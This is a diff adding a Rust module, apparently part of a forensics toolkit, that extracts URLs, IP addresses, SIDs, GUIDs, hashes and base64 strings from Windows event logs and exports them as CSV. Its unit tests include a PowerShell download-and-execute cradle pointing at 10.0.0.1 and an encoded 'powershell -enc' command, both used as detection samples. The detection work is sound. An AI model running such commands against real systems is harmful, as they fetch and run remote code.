@@ -0,0 +1,309 @@
+use std::{
+    collections::HashMap,
+    io::Write,
+    net::{Ipv4Addr, Ipv6Addr},
+    ops::Range,
+    str::FromStr,
+};
+
+use chrono::{DateTime, Utc};
+use dfir_toolkit::common::FormattableDatetime;
+use evtx::SerializedEvtxRecord;
+use lazy_regex::regex;
+use serde::Serialize;
+use serde_json::Value;
+
+#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Debug)]
+#[serde(rename_all = "lowercase")]
+pub(crate) enum IndicatorType {
+    Url,
+    Ipv6,
+    Ipv4,
+    Sid,
+    Guid,
+    Sha256,
+    Sha1,
+    Md5,
+    Base64,
+}
+
+/// a substring which might be interesting for an analyst
+pub(crate) struct Indicator<'s> {
+    pub(crate) indicator_type: IndicatorType,
+    pub(crate) value: &'s str,
+}
+
+/// finds all indicators in `s`. If two indicators overlap, the one which has
+/// been found first (in the order of [`IndicatorType`]) wins.
+pub(crate) fn find_indicators(s: &str) -> Vec<Indicator<'_>> {
+    let ipv4_regex = regex!(
+        r"\b(?:(?:25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\.){3}(?:25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\b"
+    );
+    let ipv6_regex = regex!(r"[0-9A-Fa-f:.]*:[0-9A-Fa-f:.]*:[0-9A-Fa-f:.]*");
+    let url_regex = regex!(r#"(?i)\b(?:https?|ftp|ldap|smb|file)://[^\s"'<>]+"#);
+    let sid_regex = regex!(r"\bS-1-\d+(?:-\d+)+\b");
+    let guid_regex = regex!(
+        r"\{?\b[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}\b\}?"
+    );
+    let sha256_regex = regex!(r"\b[0-9A-Fa-f]{64}\b");
+    let sha1_regex = regex!(r"\b[0-9A-Fa-f]{40}\b");
+    let md5_regex = regex!(r"\b[0-9A-Fa-f]{32}\b");
+    let base64_regex = regex!(r"[A-Za-z0-9+/]{40,}={0,2}");
+
+    let candidates = [
+        (IndicatorType::Url, url_regex),
+        (IndicatorType::Ipv6, ipv6_regex),
+        (IndicatorType::Ipv4, ipv4_regex),
+        (IndicatorType::Sid, sid_regex),
+        (IndicatorType::Guid, guid_regex),
+        (IndicatorType::Sha256, sha256_regex),
+        (IndicatorType::Sha1, sha1_regex),
+        (IndicatorType::Md5, md5_regex),
+        (IndicatorType::Base64, base64_regex),
+    ];
+
+    let mut found: Vec<(Range<usize>, Indicator)> = Vec::new();
+    for (indicator_type, regex) in candidates {
+        for m in regex.find_iter(s) {
+            let value = m.as_str();
+            let is_valid = match indicator_type {
+                IndicatorType::Ipv4 => Ipv4Addr::from_str(value).is_ok(),
+                IndicatorType::Ipv6 => {
+                    // avoid matching things like `Cache::Add`
+                    let before = s[..m.start()].chars().next_back();
+                    let after = s[m.end()..].chars().next();
+                    !before.is_some_and(|c| c.is_alphanumeric())
+                        && !after.is_some_and(|c| c.is_alphanumeric())
+                        && Ipv6Addr::from_str(value).is_ok_and(|addr| !addr.is_unspecified())
+                }
+                IndicatorType::Base64 => {
+                    value.len() % 4 == 0 && !value.chars().all(|c| c.is_ascii_hexdigit())
+                }
+                _ => true,
+            };
+            if !is_valid
+                || found
+                    .iter()
+                    .any(|(r, _)| r.start < m.end() && m.start() < r.end)
+            {
+                continue;
+            }
+            found.push((
+                m.range(),
+                Indicator {
+                    indicator_type,
+                    value,
+                },
+            ));
+        }
+    }
+
+    found.sort_by_key(|(r, _)| r.start);
+    found.into_iter().map(|(_, i)| i).collect()
+}
+
+/// returns the name of a well-known SID
+pub(crate) fn well_known_sid(sid: &str) -> Option<&'static str> {
+    Some(match sid {
+        "S-1-0-0" => "Nobody",
+        "S-1-1-0" => "Everyone",
+        "S-1-2-0" => "Local",
+        "S-1-3-0" => "Creator Owner",
+        "S-1-3-1" => "Creator Group",
+        "S-1-5-1" => "Dialup",
+        "S-1-5-2" => "Network",
+        "S-1-5-3" => "Batch",
+        "S-1-5-4" => "Interactive",
+        "S-1-5-6" => "Service",
+        "S-1-5-7" => "Anonymous Logon",
+        "S-1-5-9" => "Enterprise Domain Controllers",
+        "S-1-5-10" => "Principal Self",
+        "S-1-5-11" => "Authenticated Users",
+        "S-1-5-13" => "Terminal Server Users",
+        "S-1-5-14" => "Remote Interactive Logon",
+        "S-1-5-18" => "Local System",
+        "S-1-5-19" => "Local Service",
+        "S-1-5-20" => "Network Service",
+        "S-1-5-32-544" => "Administrators",
+        "S-1-5-32-545" => "Users",
+        "S-1-5-32-546" => "Guests",
+        "S-1-5-32-547" => "Power Users",
+        "S-1-5-32-548" => "Account Operators",
+        "S-1-5-32-549" => "Server Operators",
+        "S-1-5-32-550" => "Print Operators",
+        "S-1-5-32-551" => "Backup Operators",
+        "S-1-5-32-552" => "Replicators",
+        "S-1-5-32-555" => "Remote Desktop Users",
+        "S-1-5-32-556" => "Network Configuration Operators",
+        "S-1-5-32-562" => "Distributed COM Users",
+        "S-1-5-32-573" => "Event Log Readers",
+        "S-1-5-32-578" => "Hyper-V Administrators",
+        "S-1-5-32-580" => "Remote Management Users",
+        "S-1-16-0" => "Untrusted Mandatory Level",
+        "S-1-16-4096" => "Low Mandatory Level",
+        "S-1-16-8192" => "Medium Mandatory Level",
+        "S-1-16-8448" => "Medium Plus Mandatory Level",
+        "S-1-16-12288" => "High Mandatory Level",
+        "S-1-16-16384" => "System Mandatory Level",
+        "S-1-16-20480" => "Protected Process Mandatory Level",
+        sid if sid.starts_with("S-1-5-21-") => match sid.rsplit('-').next() {
+            Some("500") => "Administrator",
+            Some("501") => "Guest",
+            Some("502") => "krbtgt",
+            Some("512") => "Domain Admins",
+            Some("513") => "Domain Users",
+            Some("514") => "Domain Guests",
+            Some("515") => "Domain Computers",
+            Some("516") => "Domain Controllers",
+            Some("518") => "Schema Admins",
+            Some("519") => "Enterprise Admins",
+            Some("520") => "Group Policy Creator Owners",
+            _ => return None,
+        },
+        _ => return None,
+    })
+}
+
+struct IndicatorStatistics {
+    count: usize,
+    first_seen: DateTime<Utc>,
+    last_seen: DateTime<Utc>,
+}
+
+#[derive(Serialize)]
+struct IndicatorAsCsv<'a> {
+    #[serde(rename = "type")]
+    indicator_type: IndicatorType,
+    value: &'a str,
+    description: Option<&'static str>,
+    count: usize,
+    first_seen: String,
+    last_seen: String,
+}
+
+/// collects all indicators found in the event data of records
+#[derive(Default)]
+pub(crate) struct IndicatorExtractor {
+    indicators: HashMap<(IndicatorType, String), IndicatorStatistics>,
+}
+
+impl IndicatorExtractor {
+    pub fn add_record(&mut self, record: &SerializedEvtxRecord<Value>) {
+        let event = &record.data["Event"];
+        for data in [&event["EventData"], &event["UserData"]] {
+            self.add_value(data, &record.timestamp);
+        }
+    }
+
+    fn add_value(&mut self, value: &Value, timestamp: &DateTime<Utc>) {
+        match value {
+            Value::String(s) => {
+                for indicator in find_indicators(s) {
+                    self.indicators
+                        .entry((indicator.indicator_type, indicator.value.to_owned()))
+                        .and_modify(|stats| {
+                            stats.count += 1;
+                            stats.first_seen = stats.first_seen.min(*timestamp);
+                            stats.last_seen = stats.last_seen.max(*timestamp);
+                        })
+                        .or_insert(IndicatorStatistics {
+                            count: 1,
+                            first_seen: *timestamp,
+                            last_seen: *timestamp,
+                        });
+                }
+            }
+            Value::Array(a) => a.iter().for_each(|v| self.add_value(v, timestamp)),
+            Value::Object(o) => o.values().for_each(|v| self.add_value(v, timestamp)),
+            _ => (),
+        }
+    }
+
+    pub fn write_csv<W: Write>(self, writer: W, delimiter: Option<char>) -> anyhow::Result<()> {
+        let mut csv_writer = csv::WriterBuilder::new()
+            .delimiter(delimiter.unwrap_or(',') as u8)
+            .from_writer(writer);
+
+        let mut indicators: Vec<_> = self.indicators.into_iter().collect();
+        indicators.sort_by(|a, b| a.0.cmp(&b.0));
+
+        for ((indicator_type, value), stats) in indicators.iter() {
+            let description = match indicator_type {
+                IndicatorType::Sid => well_known_sid(value),
+                _ => None,
+            };
+            csv_writer.serialize(IndicatorAsCsv {
+                indicator_type: *indicator_type,
+                value,
+                description,
+                count: stats.count,
+                first_seen: FormattableDatetime::from(&stats.first_seen).to_string(),
+                last_seen: FormattableDatetime::from(&stats.last_seen).to_string(),
+            })?;
+        }
+        csv_writer.flush()?;
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{find_indicators, well_known_sid, IndicatorType};
+
+    fn types_of(s: &str) -> Vec<IndicatorType> {
+        find_indicators(s)
+            .into_iter()
+            .map(|i| i.indicator_type)
+            .collect()
+    }
+
+    #[test]
+    fn ip_addresses() {
+        assert_eq!(types_of("from 10.1.2.3"), vec![IndicatorType::Ipv4]);
+        assert_eq!(
+            types_of("from fe80::1c2b:3a4d:5e6f:7a8b"),
+            vec![IndicatorType::Ipv6]
+        );
+        assert_eq!(types_of("::ffff:192.168.1.2"), vec![IndicatorType::Ipv6]);
+        assert!(types_of("12:34:56").is_empty());
+        assert!(types_of("Cache::Add").is_empty());
+    }
+
+    #[test]
+    fn hashes_and_guids() {
+        assert_eq!(
+            types_of("MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"),
+            vec![IndicatorType::Md5, IndicatorType::Sha256]
+        );
+        assert_eq!(
+            types_of("{54849625-5478-4994-A5BA-3E3B0328C30D}"),
+            vec![IndicatorType::Guid]
+        );
+    }
+
+    #[test]
+    fn sids() {
+        assert_eq!(types_of("S-1-5-18"), vec![IndicatorType::Sid]);
+        assert_eq!(well_known_sid("S-1-5-18"), Some("Local System"));
+        assert_eq!(
+            well_known_sid("S-1-5-21-3623811015-3361044348-30300820-500"),
+            Some("Administrator")
+        );
+        assert_eq!(
+            well_known_sid("S-1-5-21-3623811015-3361044348-30300820-1013"),
+            None
+        );
+    }
+
+    #[test]
+    fn urls_and_base64() {
+        assert_eq!(
+            types_of("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"),
+            vec![IndicatorType::Url]
+        );
+        assert_eq!(
+            types_of("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
+            vec![IndicatorType::Base64]
+        );
+    }
+}